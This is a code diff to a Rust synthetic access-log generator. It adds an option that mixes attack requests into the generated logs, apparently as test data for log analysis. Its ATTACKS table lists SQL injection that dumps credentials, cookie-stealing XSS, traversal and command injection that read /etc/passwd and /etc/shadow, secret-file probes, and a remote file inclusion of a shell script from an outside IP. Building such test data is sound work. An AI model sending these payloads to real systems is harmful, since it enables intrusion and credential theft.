@@ -31,6 +31,8 @@ pub struct GenerateOptions {
     pub start_us: i64,
     /// Mean requests per second (spacing of timestamps).
     pub rps: f64,
+    /// Share of requests that carry an attack (injections, traversal, probes, attack tools).
+    pub attack_rate: f64,
 }
 
 impl Default for GenerateOptions {
@@ -41,6 +43,7 @@ impl Default for GenerateOptions {
             seed: 1,
             start_us: 1_704_067_200 * US_PER_SEC,
             rps: 20.0,
+            attack_rate: 0.0,
         }
     }
 }
@@ -224,6 +227,9 @@ impl Generator {
         if !(opts.rps > 0.0 && opts.rps.is_finite()) {
             return Err(Error::Usage("--rps must be a positive number".into()));
         }
+        if !(0.0..=1.0).contains(&opts.attack_rate) {
+            return Err(Error::Usage("--attack-rate must be between 0 and 1".into()));
+        }
         Ok(Generator { opts })
     }
 
@@ -282,8 +288,16 @@ impl Generator {
                 "-"
             };
             let _ = write!(line, "{ip} - {user} [{}] \"{} ", stamp_cache.1, e.method);
-            expand(&mut line, e.template, &mut rng);
-            if e.template == "/api/v1/search" {
+            // Drawn only when attacks are asked for, so that other logs keep their bytes.
+            let attack = (o.attack_rate > 0.0 && rng.random::<f64>() < o.attack_rate)
+                .then(|| ATTACKS[rng.random_range(0..ATTACKS.len())]);
+            let agent = attack.and_then(|a| a.1).unwrap_or(agent);
+            if let Some((target, _)) = attack {
+                line.push_str(target);
+            } else {
+                expand(&mut line, e.template, &mut rng);
+            }
+            if attack.is_none() && e.template == "/api/v1/search" {
                 let _ = write!(
                     line,
                     "?q=item{}&page={}",
@@ -325,6 +339,36 @@ impl Generator {
         Ok(totals)
     }
 }
+
+/// Attack requests mixed in by `attack_rate`: the request target and, for attack tools, the
+/// user agent.
+const ATTACKS: [(&str, Option<&str>); 10] = [
+    (
+        "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+        None,
+    ),
+    (
+        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        None,
+    ),
+    ("/download?file=../../../../etc/passwd", None),
+    ("/ping?host=127.0.0.1;cat%20/etc/shadow", None),
+    ("/.env", Some("python-requests/2.31.0")),
+    ("/.git/config", None),
+    (
+        "/wp-login.php",
+        Some("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+    ),
+    ("/index.php?page=http://198.51.100.7/shell.txt?", None),
+    (
+        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+        Some("Go-http-client/1.1"),
+    ),
+    (
+        "/api/v1/items?id=1%20AND%20SLEEP(5)",
+        Some("sqlmap/1.8#stable (https://sqlmap.org)"),
+    ),
+];
 
 fn pick_status(rng: &mut StdRng, kind: Kind, method: &str) -> u16 {
     let r: f64 = rng.random();
@@ -451,6 +495,39 @@ mod tests {
         let errors = count("\" 500 ") + count("\" 502 ") + count("\" 503 ");
         assert!(errors > 50 && errors < 1_000, "some 5xx, got {errors}");
         assert!(count("\" 404 ") > 100);
+    }
+
+    #[test]
+    fn attacks_are_mixed_in_at_the_asked_rate() {
+        let g = Generator::new(GenerateOptions {
+            format: "nginx".into(),
+            lines: 20_000,
+            attack_rate: 0.01,
+            ..GenerateOptions::default()
+        })
+        .unwrap();
+        let mut out = Vec::new();
+        g.write(&mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let attacks = text
+            .lines()
+            .filter(|l| {
+                ATTACKS
+                    .iter()
+                    .any(|(target, _)| l.contains(&format!(" {target} ")))
+            })
+            .count();
+        assert!(
+            (140..260).contains(&attacks),
+            "about 1% attacks, got {attacks}"
+        );
+        assert!(
+            Generator::new(GenerateOptions {
+                attack_rate: 1.5,
+                ..GenerateOptions::default()
+            })
+            .is_err()
+        );
     }
 
     #[test]
